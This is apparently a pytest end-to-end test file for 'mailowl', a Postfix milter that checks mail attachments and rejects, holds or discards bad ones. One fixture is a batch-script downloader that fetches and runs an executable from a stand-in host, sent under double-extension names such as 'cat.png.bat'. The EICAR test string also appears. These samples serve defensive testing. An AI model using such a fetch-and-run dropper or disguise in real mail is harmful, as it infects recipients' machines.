"""End to end with a real Postfix: smtpd_milters = inet:127.0.0.1:<mailowl's milter port>."""

from __future__ import annotations

import smtplib
import subprocess
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path

import pytest

from .postfix import Postfix, receiver, sender
from .server import Server, free_port

BAT = b"@echo off\r\ncurl http://x.invalid/cat.exe -o %TEMP%\\cat.exe\r\nstart %TEMP%\\cat.exe\r\n"
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n" * 3
# the EICAR test string, assembled at run time so no file in this repository is "infected"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def mail(attachment: bytes, filename: str, ctype: str = "application/octet-stream", subject: str = "test") -> bytes:
    msg = EmailMessage()
    msg["From"] = "alice@example.org"
    msg["To"] = "bob@example.net"
    msg["Subject"] = subject
    msg["Message-ID"] = f"<{subject.replace(' ', '.')}@example.org>"
    msg.set_content("Please see the attachment.\n")
    maintype, _, subtype = ctype.partition("/")
    msg.add_attachment(attachment, maintype=maintype, subtype=subtype, filename=filename)
    return msg.as_bytes()


def send(port: int, data: bytes) -> tuple[int, str]:
    """(code, text) of the reply to DATA."""
    try:
        with smtplib.SMTP("127.0.0.1", port, timeout=60) as client:
            client.sendmail("alice@example.org", ["bob@example.net"], data)
            return 250, ""
    except smtplib.SMTPDataError as exc:
        return exc.smtp_code, exc.smtp_error.decode()
    except smtplib.SMTPRecipientsRefused as exc:
        code, text = next(iter(exc.recipients.values()))
        return code, text.decode()


def yara_ruleset(tmp: Path) -> Path:
    rules = tmp / "yara"
    rules.mkdir(exist_ok=True)
    (rules / "eicar.yar").write_text('rule EICAR_Test_File { strings: $e = "EICAR-STANDARD-ANTIVIRUS-TEST-FILE" '
                                     "condition: $e }\n")
    ruleset = tmp / "ruleset.toml"
    builtin = (Path(__file__).parent.parent / "src/mailowl/defaults/ruleset.toml").read_text()
    ruleset.write_text(builtin.replace('rules = [\n  "known",', 'rules = [\n  "known",\n  "yara",')
                       + f'\n[yara]\ndirectory = "{rules}"\n')
    return ruleset


@pytest.fixture
def owl(tmp_path: Path) -> Iterator[Server]:
    milter = free_port()
    srv = Server(tmp_path / "owl", f'[milter]\nlisten = "127.0.0.1:{milter}"\n[mail]\nwait = 0\n',
                 ruleset=str(yara_ruleset(tmp_path)))
    srv.milter_port = milter  # type: ignore[attr-defined]
    yield srv
    srv.stop()


@pytest.fixture
def rx(tmp_path: Path, owl: Server) -> Iterator[Postfix]:
    postfix = receiver(tmp_path / "rx", owl.milter_port)  # type: ignore[attr-defined]
    yield postfix
    postfix.stop()


def wait_analysed(owl: Server, reply: str) -> None:
    """Wait until every part of the message a 451 names has its verdict, as a retrying sender would."""
    status, record, _ = owl.request("GET", f"/v2/messages/{support_id(reply)}")
    assert status == 200, record
    for part in record["parts"]:
        if part.get("job_id"):
            owl.verdict(part["job_id"])


def support_id(text: str) -> str:
    assert "support-id: " in text, text
    return text.split("support-id: ")[1].split(")")[0]


def test_clean_mail_is_delivered_with_the_result_header(owl: Server, rx: Postfix) -> None:
    data = mail(PDF, "report.pdf", "application/pdf", "quarterly report")
    code, text = send(rx.port, data)
    if code == 451:  # first sight: analysis was not finished within mail.wait = 0
        wait_analysed(owl, text)
        code, text = send(rx.port, data)
    assert code == 250, text
    delivered = rx.wait_delivered(1)[0]
    assert b"X-Mailowl-Result: unknown; support-id=mo-" in delivered
    assert b"Please see the attachment." in delivered


def test_downloader_gets_451_then_554_with_support_id(owl: Server, rx: Postfix) -> None:
    data = mail(BAT, "cat.png.bat", subject="cute cat")
    code, text = send(rx.port, data)
    assert code == 451 and "4.7.1" in text, text
    first = support_id(text)
    wait_analysed(owl, text)
    code, text = send(rx.port, data)  # the retry is answered from the cache
    assert code == 554 and "5.7.1" in text, text
    second = support_id(text)
    assert first != second
    status, record, _ = owl.request("GET", f"/v2/messages/{second}")
    assert status == 200 and record["action"] == "reject" and record["ingress"] == "milter"
    assert record["mail_from"] == "alice@example.org" and record["rcpt_to"] == ["bob@example.net"]
    assert record["message_id"] == "<cute.cat@example.org>"
    part = record["parts"][0]
    assert part["filename"] == "cat.png.bat" and part["result"] == "bad"
    assert rx.delivered() == []


def test_eicar_is_rejected(owl: Server, rx: Postfix) -> None:
    data = mail(EICAR, "eicar.com", subject="eicar")
    code, text = send(rx.port, data)
    if code == 451:
        wait_analysed(owl, text)
        code, text = send(rx.port, data)
    assert code == 554, text
    record = owl.request("GET", f"/v2/messages/{support_id(text)}")[1]
    assert "EICAR_Test_File" in record["parts"][0]["reason"]


def test_nothing_is_lost_while_mailowl_is_stopped(tmp_path: Path) -> None:
    milter = free_port()
    rx = receiver(tmp_path / "rx", milter)
    tx = sender(tmp_path / "tx", rx.port)
    owl: Server | None = None
    try:
        clean = mail(PDF, "minutes.pdf", "application/pdf", "minutes")
        bad = mail(BAT, "invoice.pdf.bat", subject="invoice")
        assert send(tx.port, clean)[0] == 250 and send(tx.port, bad)[0] == 250  # queued at the sender
        tx.flush()
        # mailowl is down: rx answers 451 (milter_default_action = tempfail) and tx keeps both
        deadline = __import__("time").monotonic() + 20
        while "Service unavailable" not in rx.log.read_text() and __import__("time").monotonic() < deadline:
            __import__("time").sleep(0.2)
        assert "4.7.1 Service unavailable" in rx.log.read_text()
        assert "minutes@example.org" in tx.queue() or tx.queue().count("alice@example.org") == 2
        assert rx.delivered() == []
        owl = Server(tmp_path / "owl", f'[milter]\nlisten = "127.0.0.1:{milter}"\n')
        for _ in range(20):
            tx.flush()
            if b"minutes" in b"".join(rx.delivered()) and "Mail queue is empty" in tx.queue():
                break
            __import__("time").sleep(1)
        delivered = rx.delivered()
        assert len(delivered) == 1 and b"Subject: minutes" in delivered[0]
        assert "Mail queue is empty" in tx.queue()  # the bad one was refused (bounced), not lost in between
        assert "5.7.1" in tx.log.read_text()
    finally:
        if owl is not None:
            owl.stop()
        tx.stop()
        rx.stop()


def test_swaks_attachment(owl: Server, rx: Postfix, tmp_path: Path) -> None:
    payload = tmp_path / "cat.png.bat"
    payload.write_bytes(BAT + b"rem swaks\r\n")
    args = ["swaks", "--server", f"127.0.0.1:{rx.port}", "--from", "alice@example.org", "--to", "bob@example.net",
            "--attach-name", "cat.png.bat", "--attach", f"@{payload}"]
    first = subprocess.run(args, capture_output=True, text=True, timeout=60).stdout
    assert "451 4.7.1" in first
    wait_analysed(owl, first[first.index("451 4.7.1"):])
    second = subprocess.run(args, capture_output=True, text=True, timeout=60).stdout
    assert "554 5.7.1" in second


def test_quarantine_puts_bad_mail_on_hold(tmp_path: Path) -> None:
    milter = free_port()
    owl = Server(tmp_path / "owl", f'[milter]\nlisten = "127.0.0.1:{milter}"\n[mail]\non_bad = "quarantine"\n')
    rx = receiver(tmp_path / "rx", milter)
    try:
        code, _ = send(rx.port, mail(BAT, "run.bat", subject="held"))
        assert code == 250  # accepted, but held for review instead of delivered
        deadline = __import__("time").monotonic() + 20
        while "!" not in rx.queue() and __import__("time").monotonic() < deadline:
            __import__("time").sleep(0.2)
        assert "!" in rx.queue()  # postqueue marks held mail with "!"
        assert rx.delivered() == []
        assert "milter triggers HOLD action" in rx.log.read_text()
    finally:
        rx.stop()
        owl.stop()


def test_discard_drops_bad_mail_silently(tmp_path: Path) -> None:
    milter = free_port()
    owl = Server(tmp_path / "owl", f'[milter]\nlisten = "127.0.0.1:{milter}"\n[mail]\non_bad = "discard"\n')
    rx = receiver(tmp_path / "rx", milter)
    try:
        assert send(rx.port, mail(BAT, "run.bat", subject="dropped"))[0] == 250
        assert send(rx.port, mail(PDF, "ok.pdf", "application/pdf", "kept"))[0] == 250
        delivered = rx.wait_delivered(1)
        assert len(delivered) == 1 and b"Subject: kept" in delivered[0]
        assert "milter triggers DISCARD action" in rx.log.read_text()
    finally:
        rx.stop()
        owl.stop()


@pytest.mark.parametrize(("padding", "headers"), [(0, 0), (300_000, 0), (0, 20)])
def test_a_folded_attachment_is_found_in_small_and_large_mail(owl: Server, rx: Postfix, padding: int,
                                                               headers: int) -> None:
    """The review's cases: the same part was refused in a 272-byte message and let through in a 292 KB one,
    and a header block over 1 MiB (20 headers of 60 KB, each within Postfix's limit) hid it."""
    filler = b"--B\r\nContent-Type: text/plain\r\n\r\n" + (b"x" * 76 + b"\r\n") * (padding // 78) if padding else b""
    head = b"".join(b"X-Pad-%d: " % i + b"y" * 60_000 + b"\r\n" for i in range(headers))
    data = (b"From: alice@example.org\r\nTo: bob@example.net\r\nSubject: folded\r\n" + head + b"MIME-Version: 1.0\r\n"
            b'Content-Type: multipart/mixed; boundary="B"\r\n\r\n' + filler
            + b"--B\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment;\r\n"
            b'\tfilename="evil.bat"\r\n\r\n' + BAT + b"\r\n--B--\r\n")
    code, text = send(rx.port, data)
    if code == 451:
        wait_analysed(owl, text)
        code, text = send(rx.port, data)
    assert code == 554 and "5.7.1" in text, text
    record = owl.request("GET", f"/v2/messages/{support_id(text)}")[1]
    assert [p["filename"] for p in record["parts"]] == ["evil.bat"]
    assert rx.delivered() == []
